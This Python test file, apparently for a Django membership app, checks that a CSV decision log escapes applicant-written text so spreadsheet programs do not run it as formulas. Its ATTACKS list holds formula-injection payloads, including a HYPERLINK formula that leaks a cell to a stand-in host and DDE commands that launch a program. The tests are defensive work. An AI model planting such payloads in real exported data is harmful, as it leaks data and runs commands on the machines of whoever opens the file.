"""Spreadsheets the board downloads hold what people wrote as text, never as a formula that runs."""

import csv
import io

import pytest
from django.test import Client

from invitations import services
from members.models import User
from network import spreadsheets
from tests.factories import ApplicationFactory, sign_in_with_mfa

pytestmark = pytest.mark.django_db

# What an applicant might write, and what a spreadsheet program would do with it as it stands.
ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Read the reference")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def decision_log(board_member: User) -> list[list[str]]:
    client = Client()
    sign_in_with_mfa(client, board_member)
    response = client.get("/board/invitations/application/decisions.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="decision-log.csv"'
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_the_decision_log_keeps_what_applicants_wrote_as_text_not_formulas(
    board_member: User,
) -> None:
    for attack in ATTACKS:
        application = ApplicationFactory(name=attack)
        services.decide(
            application_id=application.pk,
            board_member=board_member,
            verdict="reject",
            reason=attack,
        )
    rows = decision_log(board_member)
    assert rows[0] == ["date", "application", "applicant", "board member", "decision", "reason"]
    assert sorted(row[2] for row in rows[1:]) == sorted(f"'{attack}" for attack in ATTACKS)
    assert sorted(row[5] for row in rows[1:]) == sorted(f"'{attack}" for attack in ATTACKS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(spreadsheets.FORMULA_STARTS), cell


def test_the_decision_log_leaves_ordinary_text_and_numbers_as_they_are(
    board_member: User,
) -> None:
    application = ApplicationFactory(name="Grace Adeyemi-Okoro")
    services.decide(
        application_id=application.pk,
        board_member=board_member,
        verdict="reject",
        reason="No mentoring record yet - ask again in a year = fair",
    )
    [_, row] = decision_log(board_member)
    assert row[1] == str(application.pk)
    assert row[2] == "Grace Adeyemi-Okoro"
    assert row[3] == str(board_member)
    assert row[5] == "No mentoring record yet - ask again in a year = fair"
    assert row[0][:4].isdigit()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 113 000 0000", "'+44 113 000 0000"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("", ""),
        (None, ""),
        ("Grace", "Grace"),
        (" =1+1", " =1+1"),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_marked_as_text(value: object, cell: object) -> None:
    assert spreadsheets.safe_cell(value) == cell
